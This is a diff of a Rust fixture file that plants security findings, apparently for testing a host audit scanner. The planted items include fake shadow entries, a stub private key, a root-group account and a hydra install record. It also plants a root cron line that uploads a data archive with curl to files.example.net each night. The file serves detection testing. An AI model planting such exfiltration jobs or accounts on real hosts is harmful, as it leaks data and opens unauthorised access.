@@ -1,7 +1,7 @@
 //! Rights, traces and ways out for data that people should not have.
 
 use super::At::{Line, Whole};
-use super::Step::{Append, File, Login, Mode, Owner, Remove, Swap};
+use super::Step::{Append, File, Login, Mode, Old, Owner, Remove, Swap};
 use super::{Plant, plant};
 
 const PRIVATE: &str = "-----BEGIN OPENSSH PRIVATE KEY-----\nb3BlbnNzaC1rZXktdjEAAAAABG5vbmUAAAAEbm9uZQAAAAAAAAABAAAAMwAAAAtz\n-----END OPENSSH PRIVATE KEY-----\n";
@@ -38,7 +38,10 @@ pub(super) const PLANTS: &[Plant] = &[
         "the account of a service lets somebody in",
         &[
             Append("etc/passwd", "scada:x:210:210::/opt/scada:/bin/bash\n"),
-            Append("etc/shadow", "scada:$y$j9T$Rk2vNe7aQp4tWs9x$Bm5cYd8fGh1jKl3nPq6rSt0uVw2zXa4Cb7De9Fg1Hi3:@DAY-30@:0:90:7:::\n"),
+            Append(
+                "etc/shadow",
+                "scada:$y$j9T$Rk2vNe7aQp4tWs9x$Bm5cYd8fGh1jKl3nPq6rSt0uVw2zXa4Cb7De9Fg1Hi3:@DAY-30@:0:90:7:::\n",
+            ),
         ],
         "account-service-login",
         "scada",
@@ -59,7 +62,10 @@ pub(super) const PLANTS: &[Plant] = &[
         "a password is older than two years",
         &[
             Append("etc/passwd", "carl:x:1008:1008::/home/carl:/bin/bash\n"),
-            Append("etc/shadow", "carl:$y$j9T$Zx8cVb6nMa4sDf2g$Hj1kLq3wEr5tYu7iOp9aSd0fGh2jKl4zXc6vBn8mQw1:@DAY-800@:0:90:7:::\n"),
+            Append(
+                "etc/shadow",
+                "carl:$y$j9T$Zx8cVb6nMa4sDf2g$Hj1kLq3wEr5tYu7iOp9aSd0fGh2jKl4zXc6vBn8mQw1:@DAY-800@:0:90:7:::\n",
+            ),
         ],
         "account-password-old",
         "carl",
@@ -67,7 +73,10 @@ pub(super) const PLANTS: &[Plant] = &[
     ),
     plant(
         "an ordinary account is in root's group",
-        &[Append("etc/passwd", "dora:x:1009:0::/home/dora:/bin/bash\n"), Append("etc/shadow", "dora:!:@DAY-30@:0:90:7:::\n")],
+        &[
+            Append("etc/passwd", "dora:x:1009:0::/home/dora:/bin/bash\n"),
+            Append("etc/shadow", "dora:!:@DAY-30@:0:90:7:::\n"),
+        ],
         "account-root-group",
         "dora",
         Line("etc/passwd", "dora:"),
@@ -175,7 +184,10 @@ pub(super) const PLANTS: &[Plant] = &[
     ),
     plant(
         "a memory stick was plugged in this week",
-        &[Append("var/log/kern.log", "@SYSLOG-3@ plant-7 kernel: [ 1000.000001] usb 1-1: new high-speed USB device number 4 using xhci_hcd\n@SYSLOG-3@ plant-7 kernel: [ 1000.100001] usb 1-1: New USB device found, idVendor=0781, idProduct=5567, bcdDevice= 1.00\n@SYSLOG-3@ plant-7 kernel: [ 1000.100002] usb 1-1: New USB device strings: Mfr=1, Product=2, SerialNumber=3\n@SYSLOG-3@ plant-7 kernel: [ 1000.100003] usb 1-1: SerialNumber: 4C530001230101117391\n@SYSLOG-3@ plant-7 kernel: [ 1000.200001] usb-storage 1-1:1.0: USB Mass Storage device detected\n")],
+        &[Append(
+            "var/log/kern.log",
+            "@SYSLOG-3@ plant-7 kernel: [ 1000.000001] usb 1-1: new high-speed USB device number 4 using xhci_hcd\n@SYSLOG-3@ plant-7 kernel: [ 1000.100001] usb 1-1: New USB device found, idVendor=0781, idProduct=5567, bcdDevice= 1.00\n@SYSLOG-3@ plant-7 kernel: [ 1000.100002] usb 1-1: New USB device strings: Mfr=1, Product=2, SerialNumber=3\n@SYSLOG-3@ plant-7 kernel: [ 1000.100003] usb 1-1: SerialNumber: 4C530001230101117391\n@SYSLOG-3@ plant-7 kernel: [ 1000.200001] usb-storage 1-1:1.0: USB Mass Storage device detected\n",
+        )],
         "usb-storage-used",
         "0781:5567",
         Line("var/log/kern.log", "idVendor=0781"),
@@ -189,14 +201,20 @@ pub(super) const PLANTS: &[Plant] = &[
     ),
     plant(
         "data can go to a cloud",
-        &[File("home/ann/.config/rclone/rclone.conf", 0o600, "[drive]\ntype = drive\n"), Owner("home/ann/.config/rclone/rclone.conf", 1000)],
+        &[
+            File("home/ann/.config/rclone/rclone.conf", 0o600, "[drive]\ntype = drive\n"),
+            Owner("home/ann/.config/rclone/rclone.conf", 1000),
+        ],
         "cloud-client",
         "rclone",
         Whole("home/ann/.config/rclone/rclone.conf"),
     ),
     plant(
         "a job carries data out every night",
-        &[Append("etc/cron.d/export", "10 4 * * * root /usr/bin/curl --upload-file /srv/data/all.tar https://files.example.net/in\n")],
+        &[Append(
+            "etc/cron.d/export",
+            "10 4 * * * root /usr/bin/curl --upload-file /srv/data/all.tar https://files.example.net/in\n",
+        )],
         "cron-data-out",
         "/etc/cron.d/export",
         Line("etc/cron.d/export", "--upload-file"),
@@ -217,7 +235,10 @@ pub(super) const PLANTS: &[Plant] = &[
     ),
     plant(
         "a program for attacks is installed",
-        &[Append("var/lib/dpkg/status", "Package: hydra\nStatus: install ok installed\nMaintainer: Plant <plant@example.org>\nArchitecture: amd64\nVersion: 9.4-1\nDescription: hydra\n\n")],
+        &[Append(
+            "var/lib/dpkg/status",
+            "Package: hydra\nStatus: install ok installed\nMaintainer: Plant <plant@example.org>\nArchitecture: amd64\nVersion: 9.4-1\nDescription: hydra\n\n",
+        )],
         "package-attack-tool",
         "hydra",
         Line("var/lib/dpkg/status", "Package: hydra"),
@@ -241,7 +262,7 @@ pub(super) const PLANTS: &[Plant] = &[
         &[Swap("etc/logrotate.d/rsyslog", "rotate 26", "rotate 2")],
         "log-retention",
         "",
-        Line("etc/logrotate.d/rsyslog", "/var/log/syslog"),
+        Line("etc/logrotate.d/rsyslog", "rotate 2"),
     ),
     plant(
         "logs stay on the machine",
@@ -252,10 +273,10 @@ pub(super) const PLANTS: &[Plant] = &[
     ),
     plant(
         "the logs reach back only a few days",
-        &[Remove("var/log/syslog.26")],
+        &[Remove("var/log/syslog.26"), Old("var/log/auth.log", 3)],
         "log-held",
         "",
-        Whole("var/log"),
+        Whole("var/log/auth.log"),
     ),
     plant(
         "auditing runs and watches nothing",
